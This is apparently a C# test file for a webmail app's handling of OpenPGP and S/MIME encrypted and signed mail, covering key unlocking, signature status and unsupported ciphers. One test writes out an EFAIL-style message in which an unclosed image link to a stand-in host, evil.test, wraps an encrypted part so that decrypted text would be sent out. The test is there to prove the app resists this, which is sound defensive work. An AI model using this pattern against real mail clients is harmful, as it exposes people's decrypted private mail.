using System.Net;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using Webmail.Tests.Endpoints;
using Webmail.Tests.Mail.Keys;
using Webmail.Tests.Mail.Signatures;
using Webmail.Tests.Support;

namespace Webmail.Tests.Pages.Mail;

/// <summary>Messages that GnuPG and OpenSSL have encrypted, from a real mail server to the reader.</summary>
public sealed class OpenedTests(SqliteApp sqlite, MailServerFixture mail) : SealedMail, IClassFixture<SqliteApp>
{
    [Fact]
    public async Task What_gnupg_encrypted_and_signed_is_read_when_the_key_is_unlocked()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        var at = await desk.ReceiveAsync(Pgp(Ann, gpg, Entity));
        Assert.Contains($"{at}/opened-body", await desk.TextAsync(at), StringComparison.Ordinal);
        Assert.Contains("data-seal=\"NoKey\"", await desk.TextAsync(at + "/opened"), StringComparison.Ordinal);
        Assert.DoesNotContain("secret plan", await desk.TextAsync(at + "/opened-body"), StringComparison.Ordinal);

        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var opened = await desk.TextAsync(at + "/opened");
        Assert.Contains("data-seal=\"Opened\"", opened, StringComparison.Ordinal);
        Assert.Contains("data-signature=\"MissingKey\"", opened, StringComparison.Ordinal);
        Assert.Contains("What it is about", opened, StringComparison.Ordinal);
        await ImportAsync(desk, gpg.Public("ann@example.test"), "");
        Assert.Contains("data-signature=\"KnownKey\"", await desk.TextAsync(at + "/opened"), StringComparison.Ordinal);
        using var file = await desk.GetAsync(at + "/opened-parts/2");
        Assert.Equal("one\n", await file.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));

        using var locked = await desk.Browser.PostAsync("/settings/keys?handler=lock", "/settings/keys");
        Assert.Contains("data-seal=\"Locked\"", await desk.TextAsync(at + "/opened"), StringComparison.Ordinal);
        Assert.DoesNotContain("secret plan", await desk.TextAsync(at + "/opened-body"), StringComparison.Ordinal);
        using var hidden = await desk.GetAsync(at + "/opened-parts/2", HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task A66_what_was_encrypted_is_cleaned_like_all_mail_and_never_loads_anything()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var at = await desk.ReceiveAsync(Pgp(Ann, gpg, Entity));
        using var body = await desk.GetAsync(at + "/opened-body?images=1");
        var text = await body.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.Contains("The secret plan", text, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.test", text, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", text, StringComparison.Ordinal);
        Assert.Equal(Webmail.Endpoints.ContentHeaders.BlockedPolicy, body.Headers.GetValues("Content-Security-Policy").Single());
        using var asked = await desk.GetAsync(at + "/opened-body", HttpStatusCode.Forbidden, ("Sec-Fetch-Dest", "image"));
    }

    [Fact]
    public async Task A66_an_encrypted_part_between_others_is_not_opened()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var inner = Pgp("", gpg, Entity);
        var at = await desk.ReceiveAsync($"From: eve@evil.test\r\n{Head}Content-Type: multipart/mixed; boundary=out\r\n\r\n--out\r\nContent-Type: text/html\r\n\r\n<img src='https://evil.test/?\r\n--out\r\n{inner}\r\n--out\r\nContent-Type: text/html\r\n\r\n'>\r\n--out--\r\n");
        Assert.DoesNotContain("opened-body", await desk.TextAsync(at), StringComparison.Ordinal);
        Assert.DoesNotContain("secret plan", await desk.TextAsync(at + "/body"), StringComparison.Ordinal);
        using var none = await desk.GetAsync(at + "/opened", HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task A65_a_signature_inside_is_the_senders_or_it_is_a_warning()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>").Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, [.. gpg.Secret("me@example.test"), .. gpg.Public("ann@example.test")], GnuPg.Passphrase);
        var at = await desk.ReceiveAsync(Pgp("Boss <boss@example.test>", gpg, Entity));
        Assert.Contains("data-signature=\"OtherSender\"", await desk.TextAsync(at + "/opened"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_signature_of_gnupg_around_a_message_is_checked_with_the_keys_that_are_kept()
    {
        using var gpg = new GnuPg().Make(Ann);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        var part = SignedMail.Part("Dear Bob,\r\n\r\n-- line --\r\nEnd\r\n");
        var seal = Encoding.ASCII.GetString(gpg.Run(Encoding.ASCII.GetBytes(part), "--armor", "--detach-sign"));
        var message = $"From: {Ann}\r\n{Head}Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=sig\r\n\r\n--sig\r\n{part}\r\n--sig\r\nContent-Type: application/pgp-signature\r\n\r\n{seal}\r\n--sig--\r\n";
        var at = await desk.ReceiveAsync(message);
        Assert.Contains("data-signature=\"MissingKey\"", await desk.TextAsync(at + "/signature"), StringComparison.Ordinal);
        await ImportAsync(desk, gpg.Public("ann@example.test"), "");
        Assert.Contains("data-signature=\"KnownKey\"", await desk.TextAsync(at + "/signature"), StringComparison.Ordinal);
        var changed = await desk.ReceiveAsync(message.Replace("Dear Bob", "Dear Eve", StringComparison.Ordinal));
        Assert.Contains("data-signature=\"Broken\"", await desk.TextAsync(changed + "/signature"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task What_openssl_encrypted_and_signed_is_read()
    {
        using var authority = new SignedMail();
        using var mine = authority.Issue("me@example.test", X509KeyUsageFlags.KeyEncipherment);
        using var hers = authority.Issue("ann@example.test");
        using var folder = new TemporaryDirectory();
        string At(string name) => Path.Combine(folder.Path, name);
        await File.WriteAllTextAsync(At("mine.pem"), mine.ExportCertificatePem(), TestContext.Current.CancellationToken);
        await File.WriteAllTextAsync(At("hers.pem"), $"{hers.ExportCertificatePem()}\n{hers.GetRSAPrivateKey()!.ExportPkcs8PrivateKeyPem()}\n", TestContext.Current.CancellationToken);
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, mine.ExportPkcs12(Pkcs12ExportPbeParameters.Pbes2Aes256Sha256, "secret"), "secret");

        var signed = Tool.Run("openssl", Encoding.ASCII.GetBytes(Entity), out _, "cms", "-sign", "-signer", At("hers.pem"), "-nodetach", "-binary", "-crlfeol");
        var message = Encoding.ASCII.GetString(Tool.Run("openssl", signed, out _, "cms", "-encrypt", "-aes256", "-binary", At("mine.pem"))).ReplaceLineEndings("\r\n");
        var at = await desk.ReceiveAsync($"From: {Ann}\r\nTo: me@example.test\r\nSubject: Sealed\r\n{message}");
        var opened = await desk.TextAsync(at + "/opened");
        Assert.Contains("data-seal=\"Opened\"", opened, StringComparison.Ordinal);
        Assert.Contains("data-signature=\"UnknownIssuer\"", opened, StringComparison.Ordinal);
        Assert.Contains("The secret plan", await desk.TextAsync(at + "/opened-body"), StringComparison.Ordinal);
        await ImportAsync(desk, hers.RawData, "");
        Assert.Contains("data-signature=\"KnownKey\"", await desk.TextAsync(at + "/opened"), StringComparison.Ordinal);

        var only = await desk.ReceiveAsync($"From: {Ann}\r\nTo: me@example.test\r\nSubject: Signed\r\n{Encoding.ASCII.GetString(signed).ReplaceLineEndings("\r\n")}");
        var wrapped = await desk.TextAsync(only + "/opened");
        Assert.DoesNotContain("data-seal", wrapped, StringComparison.Ordinal);
        Assert.Contains("data-signature=\"KnownKey\"", wrapped, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("ec", "-aes256"), InlineData("rsa", "-aes-256-gcm")]
    public async Task Smime_that_is_not_read_here_is_named(string kind, string cipher)
    {
        using var folder = new TemporaryDirectory();
        string At(string name) => Path.Combine(folder.Path, name);
        Tool.Run("openssl", [], out _, ["req", "-x509", "-nodes", "-subj", "/CN=me", "-newkey", kind, "-pkeyopt", kind == "ec" ? "ec_paramgen_curve:P-256" : "rsa_keygen_bits:2048", "-keyout", At("key.pem"), "-out", At("mine.pem")]);
        var sealedText = Encoding.ASCII.GetString(Tool.Run("openssl", "Content-Type: text/plain\r\n\r\nsecret\r\n"u8.ToArray(), out _, "cms", "-encrypt", cipher, "-binary", At("mine.pem"))).ReplaceLineEndings("\r\n");
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        var at = await desk.ReceiveAsync($"From: {Ann}\r\nTo: me@example.test\r\nSubject: Sealed\r\n{sealedText}");
        var page = await desk.TextAsync(at + "/opened");
        Assert.Contains("data-seal=\"Unread\"", page, StringComparison.Ordinal);
        Assert.Contains("/source?download=1", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task OpenPgp_inside_the_text_is_named_and_not_opened()
    {
        using var gpg = new GnuPg().Make("Me <me@example.test>");
        using var desk = await ReadingDesk.SitDownAsync(sqlite.App, mail);
        await ImportAsync(desk, gpg.Secret("me@example.test"), GnuPg.Passphrase);
        var block = Encoding.ASCII.GetString(gpg.Run("the secret"u8.ToArray(), "--armor", "--encrypt", "--recipient", "me@example.test"));
        var at = await desk.ReceiveAsync($"From: {Ann}\r\n{Head}Content-Type: text/plain\r\n\r\nHello\r\n{block}");
        var body = await desk.TextAsync(at + "/body");
        Assert.Contains("nothing was decrypted", body, StringComparison.Ordinal);
        Assert.DoesNotContain("the secret", body, StringComparison.Ordinal);
    }
}
